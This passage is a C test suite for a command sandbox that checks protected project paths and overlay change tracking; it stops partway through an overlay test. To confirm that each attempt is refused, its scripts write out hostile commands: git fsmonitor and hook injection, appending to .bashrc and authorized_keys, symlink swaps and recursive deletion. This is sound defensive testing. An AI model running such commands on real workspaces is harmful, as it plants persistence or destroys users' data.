/* test-workdir.c — protected paths and overlay mode for real, through the CLI
 * and the library: every protected path against write, create, rename onto,
 * delete, chmod and symlink swaps; git work inside; overlay change sets
 * reported exactly, applied, discarded, kept; nothing left behind, even after
 * SIGKILL. Run as root and as uid 65534 by tests/run.sh. */
#include "harness.h"
#include "ward/sandbox.h"
#include "ward/workdir.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <jansson.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/capability.h>
#include <sys/file.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define ARRAY_LEN(a) (sizeof(a) / sizeof((a)[0]))

static char *workdir, *state, *ward;

static void setup(void)
{
	workdir = harness_tmpdir();
	state = harness_tmpdir();
	ward = harness_path("ward");
	setenv("XDG_STATE_HOME", state, 1);
}

static void teardown(void)
{
	harness_rmtree(workdir);
	harness_rmtree(state);
	free(workdir);
	free(state);
	free(ward);
}

/* sh -c on the host, in dir; output returned (caller frees). */
static char *host_sh(const char *dir, const char *script)
{
	char *cmd, *out = NULL;
	int st;

	ck_assert_int_ge(asprintf(&cmd, "cd '%s' && %s", dir, script), 0);
	{
		char *argv[] = { (char *)"/bin/sh", (char *)"-c", cmd, NULL };

		st = harness_capture(argv, &out, NULL);
	}
	ck_assert_msg(WIFEXITED(st) && WEXITSTATUS(st) == 0, "host: %s: status %d", script, st);
	free(cmd);
	return out;
}

static void write_file(const char *rel, const char *text)
{
	char path[4200];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", workdir, rel);
	f = fopen(path, "we");
	ck_assert_ptr_nonnull(f);
	fputs(text, f);
	fclose(f);
}

/* Every entry below the workdir with type, mode, size, link target and a
 * content hash: two equal manifests are byte-identical trees. */
#define MANIFEST                                                                                   \
	"find . -mindepth 1 \\( -type d -printf '%P %y %m\\n' \\) -o -printf '%P %y %m %s %l\\n' " \
	"| LC_ALL=C sort; "                                                                        \
	"find . -type f -print0 | LC_ALL=C sort -z | xargs -0r md5sum"

static char *manifest(void)
{
	return host_sh(workdir, MANIFEST);
}

/* ward run --policy=(fences only) OPTS... -c CMD in the workdir; stdout in *out. */
static int cli(char **out, char **err, const char *cmd, ...)
{
	char *argv[40];
	int n = 0, st;
	va_list ap;
	const char *o;

	argv[n++] = ward;
	argv[n++] = (char *)"run";
	argv[n++] = (char *)harness_fences_policy_opt();
	argv[n++] = (char *)"-C";
	argv[n++] = workdir;
	va_start(ap, cmd);
	while ((o = va_arg(ap, const char *)) && n < 36)
		argv[n++] = (char *)o;
	va_end(ap);
	argv[n++] = (char *)"-c";
	argv[n++] = (char *)cmd;
	argv[n] = NULL;
	st = harness_capture(argv, out, err);
	return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

/* `ward SUB [NAME]`; changes, apply and discard act on the sets of the
 * workdir they are given (or the current directory): this test's. */
static int ward_cmd(char **out, char **err, const char *sub, const char *name)
{
	bool own = strcmp(sub, "diff") != 0;
	char *argv[] = { ward, (char *)sub, own ? (char *)"-C" : (char *)name,
			 own ? workdir : NULL, (char *)name, NULL };
	int st = harness_capture(argv, out, err);

	return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

/* ward run --json with the options; the parsed result. */
static json_t *cli_json(const char *cmd, const char *const *opts)
{
	char *argv[40], *out = NULL, *req;
	int n = 0;
	json_t *o;

	argv[n++] = ward;
	argv[n++] = (char *)"run";
	argv[n++] = (char *)harness_fences_policy_opt();
	argv[n++] = (char *)"--json";
	/* the request names the workdir: the person allows it as a root */
	argv[n++] = (char *)"--workdir-root";
	argv[n++] = workdir;
	for (; opts && *opts && n < 36; opts++)
		argv[n++] = (char *)*opts;
	argv[n] = NULL;
	{
		json_t *r = json_pack("{s:s, s:s}", "command", cmd, "workdir", workdir);

		req = json_dumps(r, 0);
		json_decref(r);
	}
	harness_capture_input(argv, req, &out, NULL);
	o = json_loads(out, 0, NULL);
	ck_assert_msg(o != NULL, "not JSON: %s", out);
	free(out);
	free(req);
	return o;
}

static size_t count_entries(const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	size_t n = 0;

	while (d && (e = readdir(d)))
		n += strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0;
	if (d)
		closedir(d);
	return n;
}

static size_t count_state(const char *sub)
{
	char path[4200];

	snprintf(path, sizeof(path), "%s/ward/%s", state, sub);
	return count_entries(path);
}

static void git_repo(void)
{
	free(host_sh(workdir, "git init -q . && echo hello > a.txt && git add a.txt && "
			      "git -c user.name=t -c user.email=t@t commit -qm init"));
}

/* ---- protected paths ---------------------------------------------------------- */

static const char *const existing[] = { ".git/hooks", ".git/config", ".vscode", ".envrc" };
static const char *const missing[] = { ".mcp.json", ".npmrc",	".gitmodules",
					".idea",     ".pypirc", ".devcontainer" };

/* Each attack line prints "RC op": all must fail. */
static void attack(const char *const *extra)
{
	char script[16384], *out = NULL, *err = NULL, *line, *save = NULL;
	size_t len = 0;
	int n = 0;

	len += (size_t)snprintf(script + len, sizeof(script) - len,
				"t() { \"$@\" >/dev/null 2>&1; echo \"$? $*\"; }; ");
	for (int k = 0; k < 2; k++) {
		const char *const *list = k ? missing : existing;
		size_t cnt = k ? ARRAY_LEN(missing) : ARRAY_LEN(existing);

		for (size_t i = 0; i < cnt; i++) {
			const char *p = list[i];

			len += (size_t)snprintf(
				script + len, sizeof(script) - len,
				"t sh -c 'echo x >> %1$s'; t sh -c 'echo x > %1$s/new'; "
				"t mkdir %1$s; t mkdir -p %1$s/sub; t touch %1$s/post-checkout; "
				"echo x > zz-f; t mv -fT zz-f %1$s; mkdir -p zz-d; t mv -fT zz-d %1$s; "
				"t rm -rf %1$s; t rmdir %1$s; t unlink %1$s; t chmod 0777 %1$s; "
				"t ln -sfT /tmp %1$s; t mv -T %1$s zz-moved; t ln %1$s zz-hard; "
				"rm -rf zz-f zz-d zz-moved zz-hard; ",
				p);
		}
	}
	/* swapping the directories on the way, and a new .git */
	len += (size_t)snprintf(script + len, sizeof(script) - len,
				"t mv .git .git-away; t rmdir .git; t ln -sfT /tmp .git; "
				"t sh -c 'mv .git .g2 && mkdir -p .git/hooks'; "
				"t sh -c 'rm -rf .git/hooks && ln -s /tmp .git/hooks'; "
				"t mv .git/hooks .git/h2; t mv .git/config .git/c2; "
				"t sh -c 'echo \"[core] fsmonitor = evil\" > .git/config.lock && "
				"mv .git/config.lock .git/config'; "
				"t git config core.fsmonitor evil; t sh -c 'git init -q'; "
				"rm -f .git/config.lock; ");
	for (; extra && *extra; extra++)
		len += (size_t)snprintf(script + len, sizeof(script) - len, "%s; ", *extra);
	ck_assert_uint_lt(len, sizeof(script) - 1);
	cli(&out, &err, script, NULL);
	for (line = strtok_r(out, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		ck_assert_msg(strncmp(line, "0 ", 2) != 0, "not refused: %s\nstderr: %s", line, err);
		n++;
	}
	ck_assert_int_eq(n, 150); /* 14 attacks on each of 10 paths, 10 on the way */
	free(out);
	free(err);
}

static void prepare_protected(void)
{
	git_repo();
	free(host_sh(workdir, "mkdir .vscode && echo '{}' > .vscode/settings.json && "
			      "echo 'export A=1' > .envrc"));
}

static void check_untouched(const char *before)
{
	char *after = manifest();

	ck_assert_str_eq(before, after);
	free(after);
	for (size_t i = 0; i < ARRAY_LEN(missing); i++) {
		char path[4200];

		snprintf(path, sizeof(path), "%s/%s", workdir, missing[i]);
		ck_assert_msg(access(path, F_OK) != 0, "'%s' left behind", missing[i]);
	}
	ck_assert_uint_eq(count_state("runs"), 0);
}

START_TEST(test_protected_refused)
{
	char *before;

	prepare_protected();
	before = manifest();
	attack(NULL);
	check_untouched(before);
	free(before);
}
END_TEST

START_TEST(test_protected_refused_uid0)
{
	char *before, *out = NULL;

	prepare_protected();
	before = manifest();
	/* uid 0 inside (with no capabilities) changes nothing either */
	cli(&out, NULL, "id -u", "--uid0", NULL);
	ck_assert_str_eq(out, "0\n");
	free(out);
	{
		char script[512];

		snprintf(script, sizeof(script),
			 "echo x > .envrc; echo x > .mcp.json; chmod 777 .git/config; "
			 "mv .git .g; ln -sfT /tmp .git/hooks; echo x > .git/hooks/pre-commit");
		ck_assert_int_ne(cli(NULL, NULL, script, "--uid0", NULL), 0);
	}
	check_untouched(before);
	free(before);
}
END_TEST

START_TEST(test_protected_report)
{
	json_t *r, *w, *p;
	size_t i;
	int ro = 0, ph = 0;

	prepare_protected();
	r = cli_json("true", NULL);
	w = json_object_get(r, "workdir");
	ck_assert_ptr_nonnull(w);
	ck_assert_str_eq(json_string_value(json_object_get(w, "mode")), "direct");
	ck_assert(json_is_true(json_object_get(w, "protection")));
	json_array_foreach(json_object_get(w, "protected"), i, p) {
		const char *path = json_string_value(json_object_get(p, "path"));
		const char *s = json_string_value(json_object_get(p, "state"));
		bool ex = false;

		for (size_t k = 0; k < ARRAY_LEN(existing); k++)
			ex = ex || strcmp(existing[k], path) == 0;
		/* a missing one is covered by its own placeholder, or by that of the
		 * first missing directory on its way (.claude for .claude/settings.json) */
		ck_assert_str_eq(s, ex ? "read-only" : strchr(path, '/') ? "covered" : "placeholder");
		ro += ex;
		ph += !ex && !strchr(path, '/');
	}
	ck_assert_int_eq(ro, 4);
	ck_assert_int_eq(ph, 6);
	ck_assert_int_eq(json_array_size(json_object_get(w, "violations")), 0);
	json_decref(r);
	/* refusals the command reports on stderr are listed, said as such;
	 * other read-only places are no violation */
	r = cli_json("echo x > .git/hooks/post-checkout; echo y > \"$PWD/.envrc\"; "
		     "chmod 700 ./.git/config; echo z > /usr/x; echo fine > ok.txt; "
		     "echo '.npmrc: Read-only file system'; LC_ALL=C.UTF-8 mkdir .idea/x",
		     NULL);
	w = json_object_get(r, "workdir");
	{
		const char *want[] = { ".git/hooks/post-checkout", ".envrc", ".git/config",
				       ".idea/x" };

		ck_assert_int_eq(json_array_size(json_object_get(w, "violations")), 4);
		json_array_foreach(json_object_get(w, "violations"), i, p) {
			ck_assert_str_eq(json_string_value(json_object_get(p, "path")), want[i]);
			ck_assert_str_eq(json_string_value(json_object_get(p, "seen")), "stderr");
		}
	}
	json_decref(r);
}
END_TEST

/* In a workdir with no repository, .git is a placeholder: git init is
 * refused (a repository made inside would hand its hooks and config to the
 * host's git), what it was refused is listed, and --allow-write .git opens
 * it for a run that is meant to make one. */
START_TEST(test_git_init_needs_allow)
{
	json_t *r = cli_json("git init -q", NULL), *v;
	const char *allow[] = { "--allow-write", ".git", NULL };
	char path[4200];

	ck_assert_int_ne(json_integer_value(json_object_get(r, "exit_code")), 0);
	v = json_object_get(json_object_get(r, "workdir"), "violations");
	ck_assert_int_ge(json_array_size(v), 1);
	ck_assert_int_eq(strncmp(json_string_value(json_object_get(json_array_get(v, 0), "path")),
				 ".git/", 5), 0);
	json_decref(r);
	snprintf(path, sizeof(path), "%s/.git", workdir);
	ck_assert_int_ne(access(path, F_OK), 0);

	r = cli_json("git init -q && echo hi > a && git add a && "
		     "git -c user.name=t -c user.email=t@t commit -qm one && git log --oneline | wc -l",
		     allow);
	ck_assert_int_eq(json_integer_value(json_object_get(r, "exit_code")), 0);
	ck_assert_str_eq(json_string_value(json_object_get(r, "output")), "1\n");
	json_decref(r);
	snprintf(path, sizeof(path), "%s/.git/HEAD", workdir);
	ck_assert_int_eq(access(path, F_OK), 0);
}
END_TEST

/* A .git file (a worktree's or submodule's pointer) is protected as it is. */
START_TEST(test_gitfile)
{
	json_t *r, *p;
	size_t i;
	char *out;

	write_file(".git", "gitdir: /nonexistent/repo\n");
	r = cli_json("echo 'gitdir: /tmp/evil' > .git; rm -f .git; mv .git x; echo ok", NULL);
	json_array_foreach(json_object_get(json_object_get(r, "workdir"), "protected"), i, p) {
		const char *path = json_string_value(json_object_get(p, "path"));
		const char *st = json_string_value(json_object_get(p, "state"));

		ck_assert_str_eq(st, strchr(path, '/') ? "covered" : "placeholder");
	}
	json_decref(r);
	out = host_sh(workdir, "cat .git; ls -A");
	ck_assert_str_eq(out, "gitdir: /nonexistent/repo\n.git\n");
	free(out);
}
END_TEST

/* Protected names that are symbolic links: the link is pinned (still a
 * link), and where it leads inside the workdir is protected too, existing
 * or not. */
START_TEST(test_protected_links)
{
	char *out = NULL, *before;
	json_t *r, *p;
	size_t i;
	int ro = 0;

	/* .git a link to the repository kept elsewhere in the workdir */
	free(host_sh(workdir, "git init -q . && mkdir .repo && mv .git .repo/git && "
			      "ln -s .repo/git .git && echo t > target.txt && "
			      "ln -s target.txt .npmrc && ln -s cfg/mcp.json .mcp.json && "
			      "ln -s /nonexistent/abs .envrc"));
	before = manifest();
	r = cli_json("t() { \"$@\" >/dev/null 2>&1 && echo \"DONE $*\"; true; }; "
		     "t sh -c 'echo x > .npmrc'; t rm .npmrc; t ln -sfT /tmp/e .npmrc; "
		     "t sh -c 'echo x > target.txt'; t mv target.txt t2; "
		     "t sh -c 'mkdir -p cfg && echo {} > cfg/mcp.json'; t rm .mcp.json; "
		     "t sh -c 'echo x > .git/hooks/post-checkout'; t sh -c 'echo x >> .git/config'; "
		     "t rm .git; t mv .repo/git .repo/g2; t ln -sfT /tmp .git; t rm .envrc; "
		     "t sh -c 'git status >/dev/null'; cat .npmrc",
		     NULL);
	ck_assert_str_eq(json_string_value(json_object_get(r, "output")),
			 "DONE sh -c git status >/dev/null\nt\n");
	json_array_foreach(json_object_get(json_object_get(r, "workdir"), "protected"), i, p) {
		const char *path = json_string_value(json_object_get(p, "path"));
		const char *st = json_string_value(json_object_get(p, "state"));

		if (strcmp(path, ".npmrc") == 0 || strcmp(path, "target.txt") == 0 ||
		    strcmp(path, ".envrc") == 0 || strcmp(path, ".mcp.json") == 0) {
			ck_assert_msg(strcmp(st, "read-only") == 0, "%s: %s", path, st);
			ro++;
		}
		ck_assert_str_ne(st, "unprotected");
	}
	ck_assert_int_eq(ro, 4);
	json_decref(r);
	out = manifest();
	ck_assert_str_eq(before, out);
	free(out);
	free(before);
	out = host_sh(workdir, "ls -A");
	ck_assert_str_eq(out, ".envrc\n.git\n.mcp.json\n.npmrc\n.repo\ntarget.txt\n");
	free(out);
}
END_TEST

/* Without placeholders nothing is made in the workdir, and what is missing
 * is said to be unprotected. */
START_TEST(test_no_placeholders)
{
	const char *opts[] = { "--no-placeholders", NULL };
	json_t *r, *p;
	size_t i;
	int unprot = 0;

	prepare_protected();
	r = cli_json("ls -A", opts);
	ck_assert_str_eq(json_string_value(json_object_get(r, "output")),
			 ".envrc\n.git\n.vscode\na.txt\n");
	json_array_foreach(json_object_get(json_object_get(r, "workdir"), "protected"), i, p)
		unprot += strcmp(json_string_value(json_object_get(p, "state")), "unprotected") == 0;
	ck_assert_int_eq(unprot, 10); /* 14 defaults, 4 of them there */
	json_decref(r);
	/* what exists stays read-only; what is missing can be made: the price */
	ck_assert_int_ne(cli(NULL, NULL, "echo x > .envrc", "--no-placeholders", NULL), 0);
	ck_assert_int_eq(cli(NULL, NULL, "echo x > .mcp.json", "--no-placeholders", NULL), 0);
	{
		char *out = host_sh(workdir, "cat .envrc .mcp.json");

		ck_assert_str_eq(out, "export A=1\nx\n");
		free(out);
	}
	ck_assert_uint_eq(count_state("runs"), 0);
}
END_TEST

START_TEST(test_git_inside)
{
	char *out = NULL, *err = NULL, *log;
	int rc;

	git_repo();
	rc = cli(&out, &err,
		 "set -e; G='git -c user.name=t -c user.email=t@t'; echo more >> a.txt; "
		 "echo new > b.txt; git add -A; $G commit -qm two; git branch side; "
		 "git checkout -qb feature; echo f > f.txt; git add f.txt; $G commit -qm three; "
		 "git log --oneline | wc -l; git diff HEAD~2 --stat | tail -1; git status --short; "
		 "git checkout -q side; git branch --list | wc -l",
		 NULL);
	ck_assert_msg(rc == 0, "git inside failed (%d): %s\n%s", rc, out, err);
	ck_assert_msg(strstr(out, "3\n") && strstr(out, "3 files changed") && strstr(out, "\n3\n"),
		      "%s", out);
	free(out);
	free(err);
	/* the host sees the commits, and nothing else */
	log = host_sh(workdir, "git log --all --oneline | wc -l; git status --short; ls -A");
	ck_assert_str_eq(log, "3\n.git\na.txt\nb.txt\n");
	free(log);
	/* hooks elsewhere (husky): the directory core.hooksPath names is protected too */
	free(host_sh(workdir, "git config core.hooksPath .husky && mkdir .husky"));
	ck_assert_int_ne(cli(NULL, NULL, "echo evil > .husky/pre-commit", NULL), 0);
	log = host_sh(workdir, "ls -A .husky | wc -l");
	ck_assert_str_eq(log, "0\n");
	free(log);
}
END_TEST

START_TEST(test_allow_and_protect)
{
	char *out = NULL, path[4200];
	struct stat st;

	prepare_protected();
	write_file("secret.cfg", "keep\n");
	ck_assert_int_eq(cli(&out, NULL,
			     "echo '{\"a\":1}' > .vscode/settings.json && echo x > .npmrc && "
			     "echo ok; echo y > secret.cfg || echo refused",
			     "--allow-write", ".vscode", "--allow-write", ".npmrc", "--protect",
			     "secret.cfg", NULL),
			 0);
	ck_assert_str_eq(out, "ok\nrefused\n");
	free(out);
	out = host_sh(workdir, "cat .vscode/settings.json .npmrc secret.cfg");
	ck_assert_str_eq(out, "{\"a\":1}\nx\nkeep\n");
	free(out);
	/* a part of a protected path cannot be opened alone */
	ck_assert_int_eq(cli(NULL, &out, "true", "--allow-write", ".git/hooks/pre-commit", NULL),
			 125);
	ck_assert_ptr_nonnull(strstr(out, "inside protected '.git/hooks'"));
	free(out);
	ck_assert_int_eq(cli(NULL, &out, "true", "--protect", "../x", NULL), 125);
	ck_assert_ptr_nonnull(strstr(out, "'../x'"));
	free(out);
	snprintf(path, sizeof(path), "%s/.mcp.json", workdir);
	ck_assert_int_ne(stat(path, &st), 0);
}
END_TEST

START_TEST(test_home_workdir)
{
	char *out = NULL;

	write_file(".bashrc", "# rc\n");
	free(host_sh(workdir, "mkdir -p alice/.ssh && echo k > alice/.ssh/authorized_keys"));
	cli(&out, NULL,
	    "echo evil >> .bashrc; echo evil > .profile; echo k >> alice/.ssh/authorized_keys; "
	    "echo x > alice/.zshrc; mkdir -p .config/git && echo x > .config/git/config; "
	    "echo fine > notes.txt; cat .bashrc alice/.ssh/authorized_keys notes.txt",
	    NULL);
	ck_assert_str_eq(out, "# rc\nk\nfine\n");
	free(out);
	out = host_sh(workdir, "ls -A; ls -A alice");
	ck_assert_str_eq(out, ".bashrc\nalice\nnotes.txt\n.ssh\n");
	free(out);
}
END_TEST

/* Two wards on one workdir: the one that ends first must not take the
 * other's placeholders away (that would detach its mounts). */
START_TEST(test_placeholders_shared)
{
	char *argv[] = { ward,
			 (char *)"run",
			 (char *)harness_fences_policy_opt(),
			 (char *)"-C",
			 workdir,
			 (char *)"-c",
			 (char *)"echo started; sleep 1; echo x > .envrc && echo CREATED; "
				 "mkdir .vscode/x && echo CREATED; true",
			 NULL };
	char *out = NULL, buf[256];
	pid_t slow;
	int st, p[2];
	ssize_t n, got = 0;

	ck_assert_int_eq(pipe(p), 0);
	slow = fork();
	if (slow == 0) {
		dup2(p[1], 1);
		execv(ward, argv);
		_exit(127);
	}
	close(p[1]);
	/* the slow one holds its placeholders and runs */
	n = read(p[0], buf, sizeof(buf) - 1);
	ck_assert_int_gt(n, 0);
	ck_assert_int_eq(cli(NULL, NULL, "true", NULL), 0); /* ends first */
	while ((n = read(p[0], buf + got, sizeof(buf) - 1 - (size_t)got)) > 0)
		got += n;
	buf[got] = '\0';
	ck_assert_msg(!strstr(buf, "CREATED"), "%s", buf);
	waitpid(slow, &st, 0);
	close(p[0]);
	out = host_sh(workdir, "ls -A | wc -l");
	ck_assert_str_eq(out, "0\n");
	free(out);
	ck_assert_uint_eq(count_state("runs"), 0);
}
END_TEST

/* Several wards at once on one workdir, starting and ending at different
 * times: none can create a protected path, none leaves anything behind. */
START_TEST(test_placeholders_many_at_once)
{
	pid_t pids[6];
	int p[2];
	char buf[512], *out;
	ssize_t n, got = 0;

	ck_assert_int_eq(pipe(p), 0);
	for (int i = 0; i < 6; i++) {
		char cmd[256];

		snprintf(cmd, sizeof(cmd),
			 "sleep 0.%d; for f in .envrc .mcp.json .npmrc .git/config; do "
			 "echo x > $f 2>/dev/null && echo CREATED $f; done; true",
			 i * 15 % 10);
		pids[i] = fork();
		if (pids[i] == 0) {
			char *argv[] = { ward, (char *)"run", (char *)harness_fences_policy_opt(), (char *)"-C",
					 workdir, (char *)"-c", cmd, NULL };

			dup2(p[1], 1);
			execv(ward, argv);
			_exit(127);
		}
	}
	close(p[1]);
	while ((n = read(p[0], buf + got, sizeof(buf) - 1 - (size_t)got)) > 0)
		got += n;
	buf[got] = '\0';
	close(p[0]);
	for (int i = 0; i < 6; i++) {
		int st;

		waitpid(pids[i], &st, 0);
		ck_assert(WIFEXITED(st) && WEXITSTATUS(st) == 0);
	}
	ck_assert_msg(got == 0, "%s", buf);
	out = host_sh(workdir, "ls -A | wc -l");
	ck_assert_str_eq(out, "0\n");
	free(out);
	ck_assert_uint_eq(count_state("runs"), 0);
}
END_TEST

/* Wards started back to back by several workers on one workdir, as an agent
 * host running commands concurrently does: each one's placeholders appear
 * and go while the others plan, share, bind and remove theirs (and an
 * overlay run looks at the same names). Every run must succeed, and nothing
 * may be left behind: not in the workdir, not in the state directory. */
#define LOOPS 3
#define RUNS 50

START_TEST(test_placeholders_concurrent_loops)
{
	char *before, *after, buf[4096];
	pid_t pids[LOOPS];
	int p[2];
	ssize_t n, got = 0;

	git_repo(); /* .git/hooks and .git/config exist, the rest is missing */
	before = manifest();
	ck_assert_int_eq(pipe(p), 0);
	for (int k = 0; k < LOOPS; k++) {
		pids[k] = fork();
		ck_assert_int_ge(pids[k], 0);
		if (pids[k] > 0)
			continue;
		close(p[0]);
		for (int i = 0; i < RUNS; i++) {
			/* the last worker runs every fifth command in overlay mode */
			bool ovl = k == LOOPS - 1 && i % 5 == 4;
			char *argv[12];
			int a = 0, st;
			pid_t c;

			argv[a++] = ward;
			argv[a++] = (char *)"run";
			/* no rate limit: 150 runs in well under a minute */
			argv[a++] = (char *)harness_fences_policy_opt();
			argv[a++] = (char *)"-C";
			argv[a++] = workdir;
			if (ovl) {
				argv[a++] = (char *)"--workdir-mode=overlay";
				argv[a++] = (char *)"--discard";
			}
			argv[a++] = (char *)"--";
			argv[a++] = (char *)"/bin/true";
			argv[a] = NULL;
			/* stderr kept aside: told only for a run that failed */
			FILE *err = tmpfile();

			if (!err)
				_exit(1);
			c = fork();
			if (c == 0) {
				int fd = open("/dev/null", O_WRONLY);

				dup2(fd, 1);
				dup2(fileno(err), 2);
				execv(ward, argv);
				_exit(127);
			}
			if (c < 0 || waitpid(c, &st, 0) != c || !WIFEXITED(st) || WEXITSTATUS(st)) {
				char line[512];

				dprintf(p[1], "worker %d run %d: status %d\n", k, i, st);
				rewind(err);
				while (fgets(line, sizeof(line), err))
					dprintf(p[1], "  %s", line);
			}
			fclose(err);
		}
		_exit(0);
	}
	close(p[1]);
	while (got < (ssize_t)sizeof(buf) - 1 &&
	       (n = read(p[0], buf + got, sizeof(buf) - 1 - (size_t)got)) > 0)
		got += n;
	buf[got] = '\0';
	close(p[0]);
	for (int k = 0; k < LOOPS; k++) {
		int st;

		ck_assert_int_eq(waitpid(pids[k], &st, 0), pids[k]);
		ck_assert(WIFEXITED(st) && WEXITSTATUS(st) == 0);
	}
	ck_assert_msg(got == 0, "failed runs:\n%s", buf);
	after = manifest();
	ck_assert_str_eq(before, after);
	free(before);
	free(after);
	ck_assert_uint_eq(count_state("runs"), 0);
	ck_assert_uint_eq(count_state("changes"), 0);
}
END_TEST

/* A ward killed with SIGKILL leaves placeholders (and, in overlay mode, an
 * upper directory); the next ward removes them, since their owner is dead. */
static void killed_then_swept(const char *mode)
{
	char *argv[] = { ward,	 (char *)"run",	       (char *)harness_fences_policy_opt(),
			 (char *)"-C", workdir,		       (char *)"--workdir-mode",
			 (char *)mode, (char *)"-c",	       (char *)"echo x > f; echo started; sleep 30",
			 NULL };
	char path[4200], buf[16];
	int st, p[2];
	pid_t pid;

	ck_assert_int_eq(pipe(p), 0);
	pid = fork();
	if (pid == 0) {
		int fd = open("/dev/null", O_WRONLY);

		dup2(p[1], 1);
		dup2(fd, 2);
		execv(ward, argv);
		_exit(127);
	}
	close(p[1]);
	ck_assert_int_gt(read(p[0], buf, sizeof(buf)), 0); /* the command runs */
	snprintf(path, sizeof(path), "%s/ward/runs", state);
	ck_assert_uint_eq(count_entries(path), 1);
	kill(pid, SIGKILL);
	waitpid(pid, &st, 0);
	close(p[0]);
	ck_assert_uint_eq(count_entries(path), 1); /* left by the dead ward */
	if (strcmp(mode, "direct") == 0)
		ck_assert_uint_gt(count_entries(workdir), 2);
	/* another run (another workdir even) sweeps it */
	{
		char *other = harness_tmpdir(), *saved = workdir;

		workdir = other;
		ck_assert_int_eq(cli(NULL, NULL, "true", NULL), 0);
		workdir = saved;
		harness_rmtree(other);
		free(other);
	}
	ck_assert_uint_eq(count_entries(path), 0);
	/* placeholders gone; "f" exists only in direct mode */
	ck_assert_uint_eq(count_entries(workdir), strcmp(mode, "direct") == 0 ? 1 : 0);
}

/* A run whose owner looks dead by its pid (another pid namespace, say) but
 * still holds its run directory's lock is left alone. */
START_TEST(test_live_lock_not_swept)
{
	char runs[4200], run[4300];
	int fd;

	snprintf(runs, sizeof(runs), "%s/ward", state);
	ck_assert_int_eq(mkdir(runs, 0700), 0);
	snprintf(runs, sizeof(runs), "%s/ward/runs", state);
	ck_assert_int_eq(mkdir(runs, 0700), 0);
	snprintf(run, sizeof(run), "%s/999999999-1-0", runs);
	ck_assert_int_eq(mkdir(run, 0700), 0);
	fd = open(run, O_RDONLY | O_DIRECTORY);
	ck_assert_int_eq(flock(fd, LOCK_EX), 0);
	ck_assert_int_eq(cli(NULL, NULL, "true", NULL), 0);
	ck_assert_int_eq(access(run, F_OK), 0);
	close(fd);
	ck_assert_int_eq(cli(NULL, NULL, "true", NULL), 0);
	ck_assert_int_ne(access(run, F_OK), 0);
}
END_TEST

START_TEST(test_killed_direct)
{
	killed_then_swept("direct");
}
END_TEST

START_TEST(test_killed_overlay)
{
	killed_then_swept("overlay");
}
END_TEST

/* ---- overlay ------------------------------------------------------------------------ */

static void tree(void)
{
	free(host_sh(workdir,
		     "echo one > keep.txt && echo two > mod.txt && echo three > gone.txt && "
		     "echo four > ren-from.txt && echo five > mode.sh && chmod 644 mode.sh && "
		     "mkdir -p olddir/sub && echo six > olddir/sub/x && ln -s keep.txt link && "
		     "mkdir -p opq && echo a > opq/a && echo b > opq/b && "
		     "head -c 3000 /dev/urandom > bin.dat"));
}

static const char overlay_script[] =
	"set -e; echo two-changed > mod.txt; rm gone.txt; mv ren-from.txt ren-to.txt; "
	"chmod 755 mode.sh; rm -rf olddir; mkdir -p new/a/b/c/d && echo deep > new/a/b/c/d/e; "
	"ln -sfn mod.txt link; rm -rf opq && mkdir opq && echo b2 > opq/b; "
	"printf 'x\\0y' > bin2.dat";

/* path -> "change type size" as the result reports it */
static const char *const expected[][2] = {
	{ "bin2.dat", "added file 3" },
	{ "gone.txt", "deleted none -" },
	{ "link", "modified symlink 7" },
	{ "mod.txt", "modified file 12" },
	{ "mode.sh", "mode file 5" },
	{ "new", "added dir 0" },
	{ "new/a", "added dir 0" },
	{ "new/a/b", "added dir 0" },
	{ "new/a/b/c", "added dir 0" },
	{ "new/a/b/c/d", "added dir 0" },
	{ "new/a/b/c/d/e", "added file 5" },
	{ "olddir", "deleted none -" },
	{ "olddir/sub", "deleted none -" },
	{ "olddir/sub/x", "deleted none -" },
	{ "opq/a", "deleted none -" },
	{ "opq/b", "modified file 3" },
	{ "ren-from.txt", "deleted none -" },
	{ "ren-to.txt", "added file 5" },
};

START_TEST(test_overlay_reported_exactly)
{
	const char *opts[] = { "--workdir-mode", "overlay", "--discard", NULL };
	char *before, *after;
	json_t *r, *c, *e;
	size_t i;

	tree();
	before = manifest();
	r = cli_json(overlay_script, opts);
	ck_assert_msg(json_is_true(json_object_get(r, "success")), "%s",
		      json_string_value(json_object_get(r, "output")));
	c = json_object_get(json_object_get(r, "workdir"), "changes");
	ck_assert_str_eq(json_string_value(json_object_get(c, "action")), "discarded");
	ck_assert_uint_eq(json_array_size(json_object_get(c, "entries")), ARRAY_LEN(expected));
	json_array_foreach(json_object_get(c, "entries"), i, e) {
		char got[128], size[32] = "-";
		json_t *sz = json_object_get(e, "size");

		if (sz)
			snprintf(size, sizeof(size), "%lld", (long long)json_integer_value(sz));
		snprintf(got, sizeof(got), "%s %s %s",
			 json_string_value(json_object_get(e, "change")),
			 json_string_value(json_object_get(e, "type")), size);
		ck_assert_str_eq(json_string_value(json_object_get(e, "path")), expected[i][0]);
		ck_assert_msg(strcmp(got, expected[i][1]) == 0, "%s: %s, expected %s",
			      expected[i][0], got, expected[i][1]);
		if (strcmp(expected[i][0], "mode.sh") == 0) {
			ck_assert_str_eq(json_string_value(json_object_get(e, "mode")), "0755");
			ck_assert_str_eq(json_string_value(json_object_get(e, "old_mode")), "0644");
		}
		if (strcmp(expected[i][0], "mod.txt") == 0)
			ck_assert_int_eq(json_integer_value(json_object_get(e, "old_size")), 4);
	}
	json_decref(r);
	after = manifest();
	ck_assert_str_eq(before, after); /* discarded: nothing of it reached the workdir */
	free(before);
	free(after);
	ck_assert_uint_eq(count_state("runs"), 0);
	ck_assert_uint_eq(count_state("changes"), 0);
}
END_TEST

START_TEST(test_overlay_rm_rf)
{
	const char *opts[] = { "--workdir-mode", "overlay", NULL };
	char *before, *after;
	json_t *r;

	tree();
	git_repo();
	before = manifest();
	r = cli_json("rm -rf ./* ./.[!.]* \"$PWD\"/* ; rm -rf . ; ls -A | wc -l", opts);
	/* left: .git (pinned, its hooks and config read-only) and 11 placeholders */
